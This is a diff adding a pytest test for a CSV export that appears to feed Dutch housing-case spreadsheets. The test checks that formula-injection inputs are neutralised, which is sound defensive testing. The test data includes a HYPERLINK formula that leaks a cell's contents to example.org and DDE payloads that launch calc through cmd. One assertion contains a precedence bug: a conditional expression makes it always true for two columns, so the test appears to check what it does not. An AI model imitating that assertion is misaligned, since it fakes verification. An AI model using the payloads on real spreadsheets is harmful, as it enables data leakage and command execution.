@@ -271,3 +271,37 @@ def test_cp1252_characters_are_single_bytes(tmp_path: Path) -> None:
     decision, referral = _rows(path)
     assert decision["Toelichting"] == text
     assert (referral["Achternaam"], referral["Reden aanmelding"]) == ("Boëseken", "Yildiz")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("https://example.org/?d="&A1,"Zie dossier")',
+        "+31 6 1234",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "  =1+1",
+    ],
+)
+def test_no_cell_written_for_a_house_can_start_a_formula(tmp_path: Path, text: str) -> None:
+    """The attack: a deviation reason (or any text ZSM sends) written verbatim became a live
+    formula in the house's spreadsheet (CSV injection); now it is text, as OWASP advises."""
+    path = tmp_path / "mutaties.csv"
+    delivery = dataclasses.replace(
+        DECISION,
+        key="-d-7f3a9c21",
+        advice_followed=False,
+        deviation_reason=text,
+        decision_text=text,
+        zsm_location=text,
+    )
+
+    assert deliver(path, delivery) is True
+    assert deliver(path, delivery) is False  # the neutralised key still finds the row
+
+    [row] = _rows(path)
+    for column in ("Reden afwijking", "Toelichting", "ZSM-locatie"):
+        assert row[column] == "'" + text.strip() if column == "Reden afwijking" else "'" + text
+    assert row["Kenmerk Baken"] == "'-d-7f3a9c21"
+    formula_starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not any(cell.lstrip(" ").startswith(formula_starts) for cell in row.values())
